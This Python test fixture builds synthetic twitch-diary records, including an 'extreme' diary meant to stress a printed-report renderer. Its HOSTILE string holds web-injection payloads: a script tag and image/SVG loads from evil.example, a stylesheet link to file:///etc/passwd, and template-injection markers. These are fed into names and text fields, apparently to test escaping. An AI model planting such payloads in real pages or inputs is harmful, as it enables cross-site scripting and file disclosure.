"""Diaries for the printed page: of any length, and one that is extreme in everything at once."""

from __future__ import annotations

from collections.abc import Sequence
from datetime import date, timedelta
from random import Random
from typing import Any

from diary.records import (
    DayRecord,
    DiaryRecord,
    EpisodeRecord,
    EventRecord,
    MedicineRecord,
    Onset,
    PersonRecord,
    Place,
    SymptomAnswerRecord,
    TestDone,
    VisitRecord,
)
from diary.vocabulary import AssociatedSymptom, BodySite, Condition, Test
from tests.triage.hand_made import AS_OF, answer, complete, constant, diary, episode, none, written

FEW_PLACES: tuple[Place, ...] = (("eyelid_lower", "left"), ("calf", "left"), ("thumb", "right"))
EVERY_PLACE: tuple[Place, ...] = tuple(
    (site.value, side.value) for site in BodySite for side in site.sides
)


def diary_of(
    days: int,
    *,
    a_day: float = 1.5,
    places: Sequence[Place] = FEW_PLACES,
    **fields: Any,
) -> DiaryRecord:
    """A diary of so many days up to AS_OF, some of them open, some without twitches."""
    chance = Random(days)
    entered: list[DayRecord] = []
    episodes: list[EpisodeRecord] = []
    for back in reversed(range(days)):
        day, kind = AS_OF - timedelta(days=back), chance.random()
        if kind < 0.07:
            continue
        count = 0 if kind < 0.3 else min(60, 1 + int(chance.expovariate(1 / a_day)))
        episodes += [_episode(day, number, places, chance) for number in range(count)]
        factors = {
            "caffeine_mg": chance.randrange(0, 800),
            "sleep_min": chance.randrange(240, 600),
            "stress": chance.randrange(0, 11),
        }
        if kind > 0.97:
            entered.append(DayRecord(day, **factors))
        elif kind > 0.94:
            entered.append(constant(day, sites=(places[0],), **factors))
        else:
            entered.append((complete if count else none)(day, **factors))
    return diary(entered, episodes, **fields)


def _episode(day: date, number: int, places: Sequence[Place], chance: Random) -> EpisodeRecord:
    site, side = places[min(int(chance.expovariate(3 / len(places))), len(places) - 1)]
    return episode(
        day,
        f"{6 + number // 6:02d}:{number % 6}5",
        id=f"{day}-{number}",
        site=site,
        side=side,
        duration_s=chance.choice([None, 5, 40, 200, 4000]),
        context=chance.choice([None, "rest", "use"]),
        seen_by_others=chance.choice([None, True, False]),
        recorded_at=written(day, "23:30"),
    )


HOSTILE = (
    "</style><script src=//evil.example/x.js></script><img src=http://evil.example/a.png>"
    '<link rel=stylesheet href="file:///etc/passwd">" onload="x" {{ page }} {% load x %} &amp; '
    "]]><svg><image href='https://evil.example/b.svg'/></svg> url(ftp://evil.example/c)"
)
OTHER_SCRIPTS = "قلق من أن يكون شيئًا خطيرًا " * 9 + "漢字かな交じり文" * 20 + " \ufffe\U0001f600"
LONG_NAME = "Maximiliane-Friederike von und zu Hohenstein-Wittelsbacher-Oettingen-Spielberg " * 2


def extreme_diary(text: str = HOSTILE) -> DiaryRecord:
    """5,000 episodes at every place, 60 medicines, 9 long questions, all signs, all conditions."""
    return diary_of(
        730,
        a_day=9.6,
        places=EVERY_PLACE,
        person=PersonRecord(
            name=LONG_NAME + text,
            birth_year=1931,
            pregnant=False,
            breastfeeding=True,
            conditions=Condition.codes(),
            family_conditions=Condition.codes(),
            onset=Onset(date(2023, 12, 1), "season", "gradual", True),
            impact="a_lot",
            worry=text + OTHER_SCRIPTS,
            tests_done=tuple(TestDone(test, AS_OF, text) for test in Test.codes()),
        ),
        symptom_answers=tuple(_answers()),
        medicines=tuple(
            MedicineRecord(
                f"{number} {text}",
                "ssri_snri",
                f"500 mg {text}",
                date(2023, 11, 1) + timedelta(days=15 * number),
                None,
                AS_OF if number % 3 == 0 else None,
                number % 2 == 0,
            )
            for number in range(60)
        ),
        events=tuple(EventRecord(AS_OF - timedelta(days=25 * n), f"{text} {n}") for n in range(40)),
        visits=(VisitRecord(questions=tuple(f"{text} {OTHER_SCRIPTS} {n}" for n in range(9))),),
    )


def _answers() -> list[SymptomAnswerRecord]:
    return [
        answer(
            AS_OF - timedelta(days=number % 9),
            code,
            ("yes", "no", "unsure", "yes")[number % 4],
            side=(None, "left", "both")[number % 3],
            since=date(2024, 3, 1),
        )
        for number, code in enumerate(AssociatedSymptom.codes())
    ]
